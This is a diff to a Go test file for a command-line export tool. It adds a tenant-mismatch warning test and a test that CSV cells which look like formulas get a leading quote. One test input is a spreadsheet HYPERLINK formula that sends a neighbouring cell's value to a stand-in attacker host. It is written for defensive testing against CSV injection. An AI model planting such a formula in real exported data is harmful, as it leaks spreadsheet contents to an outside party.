@@ -642,6 +642,28 @@ func TestExportVerdictFilter(t *testing.T) {
 	if res.code != 0 || strings.Count(res.stdout, "\n") != 4 || !strings.Contains(res.stdout, ",verdict\n") || !strings.Contains(res.stdout, "seo-1") {
 		t.Fatalf("export --verdict agree: %d\n%s%s", res.code, res.stdout, res.stderr)
 	}
+	// A mistyped tenant pattern is said so, not taken for an empty tenant.
+	res = runAt(t, nil, "export", "--tenant", "acmee", "--format", "csv")
+	if res.code != 0 || strings.Count(res.stdout, "\n") != 1 || !strings.Contains(res.stderr, "no tenant in the store matches --tenant") {
+		t.Fatalf("export --tenant acmee: %d\n%s%s", res.code, res.stdout, res.stderr)
+	}
+	if res = runAt(t, nil, "export", "--tenant", "acme", "--format", "csv"); strings.Contains(res.stderr, "matches --tenant") {
+		t.Fatalf("export --tenant acme warned: %s", res.stderr)
+	}
+}
+
+// A cell a spreadsheet would read as a formula gets a leading ': a
+// workspace name or a reason is whatever a tenant or a server wrote.
+func TestExportCSVCellsAreNeverFormulas(t *testing.T) {
+	for in, want := range map[string]string{
+		`=HYPERLINK("http://evil.example/?"&B2,"open")`: `'=HYPERLINK("http://evil.example/?"&B2,"open")`,
+		"+1": "'+1", "-2+3": "'-2+3", "@SUM(A1)": "'@SUM(A1)", "	x": "'	x", "x": "'x",
+		"seo-agent": "seo-agent", "": "", "a=b": "a=b", "'quoted": "'quoted",
+	} {
+		if got := spreadsheetSafe([]string{in})[0]; got != want {
+			t.Errorf("spreadsheetSafe(%q) = %q, want %q", in, got, want)
+		}
+	}
 }
 
 // TestPlanThatCannotWriteAReportLeavesNoPlan: a failed plan leaves nothing
